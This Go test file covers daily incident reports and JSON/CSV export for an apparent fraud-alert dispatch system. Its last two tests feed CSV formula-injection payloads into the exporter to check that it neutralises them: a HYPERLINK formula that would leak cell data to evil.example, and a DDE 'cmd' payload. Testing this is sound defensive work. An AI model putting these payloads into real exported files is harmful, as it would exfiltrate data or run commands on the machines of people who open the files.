package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/transferguard/transferguard/agent/envelope"
	"github.com/transferguard/transferguard/dispatch/incident"
)

var t0 = time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC)

func day() []incident.Incident {
	mk := func(id, site string, at time.Time, amount int64) incident.Incident {
		i, _ := incident.FromAlert(id, envelope.Alert{ID: id, Type: "alert", AlertID: "A" + id, Site: site, Terminal: "T1",
			Level: "high", Held: true, Reasons: []envelope.Reason{{Rule: "r", Text: "On the phone, with a comma"}},
			Txn: &envelope.Txn{AmountMinor: amount, Currency: "CNY"}}, at)
		return i
	}
	a := mk("1", "S1", t0, 500000)
	_, _ = a.Claim("g1", 0, t0.Add(30*time.Second))
	_, _ = a.Arrive("g1", t0.Add(90*time.Second))
	_, _ = a.Resolve("g1", incident.OutcomeFraudStopped, "", t0.Add(5*time.Minute))
	b := mk("2", "S1", t0.Add(time.Hour), 100)
	_, _ = b.Claim("g1", 0, t0.Add(time.Hour+10*time.Second))
	_, _ = b.Resolve("g1", incident.OutcomeFalseAlarm, "", t0.Add(2*time.Hour))
	c := mk("3", "S1", t0.Add(20*time.Hour), 1) // next day in UTC+8
	d := mk("4", "S2", t0, 7)
	return []incident.Incident{a, b, c, d}
}

func TestDaily(t *testing.T) {
	shanghai := time.FixedZone("CST", 8*3600)
	got := Daily(day(), shanghai)
	if len(got) != 3 {
		t.Fatalf("got %d rows, want 3: %+v", len(got), got)
	}
	d := got[0]
	if d.Site != "S1" || d.Date != "2026-11-26" || d.Incidents != 2 || d.Claimed != 2 || d.ClaimP50 != 30 || d.ClaimMax != 30 ||
		d.Arrived != 1 || d.ArriveMax != 90 || d.Outcomes["fraud_stopped"] != 1 || d.Outcomes["false_alarm"] != 1 || d.Held["CNY"] != 500100 {
		t.Fatalf("day %+v", d)
	}
	if got[1].Date != "2026-11-27" || got[1].Open != 1 || got[2].Site != "S2" {
		t.Fatalf("rows %+v", got)
	}
}

// A hold the terminal released afterwards (its last alert_update says
// held:false) still counts as money held that day; an incident never
// held adds nothing.
func TestDailyCountsReleasedHolds(t *testing.T) {
	alert := func(id string, held bool, at time.Time) envelope.Alert {
		return envelope.Alert{ID: id, Type: "alert", AlertID: "A1", Site: "S1", Terminal: "T1", Level: "high", Held: held,
			TS: envelope.Time(at), Reasons: []envelope.Reason{{Rule: "r"}}, Txn: &envelope.Txn{AmountMinor: 800000, Currency: "CNY"}}
	}
	released, _ := incident.FromAlert("1", alert("m1", true, t0), t0)
	released.Fold(alert("m2", false, t0.Add(time.Minute)), t0.Add(time.Minute))
	if released.Held || !released.HeldEver {
		t.Fatalf("held %v, held ever %v: want a released hold", released.Held, released.HeldEver)
	}
	never, _ := incident.FromAlert("2", envelope.Alert{ID: "m3", Type: "alert", AlertID: "A2", Site: "S1", Terminal: "T1",
		Level: "high", TS: envelope.Time(t0), Txn: &envelope.Txn{AmountMinor: 5000, Currency: "CNY"}}, t0)
	got := Daily([]incident.Incident{released, never}, time.UTC)
	if len(got) != 1 || got[0].Incidents != 2 || got[0].Held["CNY"] != 800000 {
		t.Fatalf("days %+v: want one day of 2 incidents with 8000.00 CNY held", got)
	}
}

func TestExport(t *testing.T) {
	list := day()
	steps := []incident.Step{{IncidentID: "1", At: t0, Actor: "system", Action: "raised"}, {IncidentID: "1", At: t0.Add(time.Minute), Actor: "g1", Action: "claimed"}}
	recs := Records(list, steps)
	var js bytes.Buffer
	if err := WriteJSON(&js, recs); err != nil {
		t.Fatal(err)
	}
	var back []Record
	if err := json.Unmarshal(js.Bytes(), &back); err != nil || len(back) != 4 || len(back[0].Steps) != 2 || back[0].Outcome != "fraud_stopped" {
		t.Fatalf("json: %v %+v", err, back)
	}
	var cs bytes.Buffer
	if err := WriteCSV(&cs, recs); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&cs).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// header + 2 steps of incident 1 + one line each for 2, 3, 4
	if len(rows) != 6 || rows[1][7] != "On the phone, with a comma" || rows[1][8] != "5000.00" || rows[2][22] != "claimed" {
		t.Fatalf("csv rows %d: %q", len(rows), rows[:2])
	}
	last := len(CSVColumns) - 1
	if CSVColumns[last] != "held_ever" || rows[1][last] != strconv.FormatBool(recs[0].HeldEver) || !back[0].HeldEver {
		t.Errorf("held_ever: column %q = %q, json %v; want the last column saying whether the transaction was ever held", CSVColumns[last], rows[1][last], back[0].HeldEver)
	}
}

func TestCellNeutralisesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		"+1+cmd|' /C calc'!A0":                             "'+1+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(1+1)": "'@SUM(1+1)",
		"\tnote": "'\tnote", "\r=1": "'\r=1", "": "", "On the phone": "On the phone", "1=1": "1=1", "'quoted": "'quoted",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// Every text column of the CSV is neutralised; numbers stay numbers.
func TestCSVExportNeutralisesEveryTextCell(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example","x")`
	i, _ := incident.FromAlert("=1", envelope.Alert{ID: "m", Type: "alert", AlertID: "+A", Site: "-S", Terminal: "@T",
		Level: "high", Reasons: []envelope.Reason{{Rule: "r", Text: evil}}, Txn: &envelope.Txn{AmountMinor: -5, Currency: "=C"}}, t0)
	i.Note, i.Score, i.AmountMinor = "\tnote", -3, -5 // a refund, say
	steps := []incident.Step{{IncidentID: "=1", At: t0, Actor: "=guard", Action: "+claimed", Detail: "-2+3"}}
	var b bytes.Buffer
	if err := WriteCSV(&b, Records([]incident.Incident{i}, steps)); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("rows %q %v", rows, err)
	}
	numeric := map[string]bool{"score": true, "amount": true}
	for n, col := range rows[0] {
		cell := rows[1][n]
		if cell == "" || numeric[col] {
			continue
		}
		if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s: %q would run as a formula", col, cell)
		}
	}
	if rows[1][7] != "'"+evil || rows[1][6] != "-3" || rows[1][8] != "-0.05" || rows[1][23] != "'-2+3" {
		t.Fatalf("reasons %q score %q amount %q detail %q", rows[1][7], rows[1][6], rows[1][8], rows[1][23])
	}
}
